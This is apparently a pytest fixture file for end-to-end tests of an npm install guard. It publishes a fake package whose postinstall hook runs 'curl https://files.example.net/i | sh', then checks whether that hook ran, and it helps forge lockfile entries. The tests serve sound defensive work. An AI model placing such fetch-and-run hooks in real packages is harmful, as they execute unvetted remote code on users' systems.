"""The same lab as the other end-to-end tests, and a package whose install script would leave a mark."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import lab
from tests.e2e.harness import Lab
from tests.fakes.registry import Registry

__all__ = ["lab"]

MARK = "curl https://files.example.net/i | sh; echo x > $MARK"


class Trap:
    """`bad@1.0.0` blocks; `sprung` tells whether its script ran all the same."""

    def __init__(self, lab: Lab, registry: Registry) -> None:
        self._registry = registry
        self._mark = lab.place / "MARK"
        lab.environment["MARK"] = str(self._mark)
        registry.publish("bad", "1.0.0", scripts={"postinstall": MARK}, manifest={"license": "MIT"})

    @property
    def sprung(self) -> bool:
        return self._mark.exists()

    def entry(self, name: str = "bad", release: str = "1.0.0", **fields: Any) -> dict[str, Any]:
        """A release's lockfile entry as npm would write it, and what a forger would add."""
        honest = {
            "version": release,
            "resolved": self._registry.tarball_url(name, release),
            "integrity": self._registry.release(name, release).integrity,
        }
        return {**honest, **fields}


@pytest.fixture
def trap(lab: Lab, registry: Registry) -> Trap:
    return Trap(lab, registry)


@pytest.fixture
def forge(lab: Lab) -> Callable[..., Path]:
    """Write a package.json and a lockfile that agree on `dependencies`; the lockfile's entries are the rest."""
    import json

    def write(dependencies: dict[str, str], **entries: dict[str, Any]) -> Path:
        lab.project(dependencies=dependencies)
        root = {"name": lab.folder.name, "version": "1.0.0", "dependencies": dependencies}
        document = {
            "name": lab.folder.name,
            "version": "1.0.0",
            "lockfileVersion": 3,
            "requires": True,
            "packages": {"": root, **entries},
        }
        path = lab.folder / "package-lock.json"
        path.write_text(json.dumps(document))
        return path

    return write
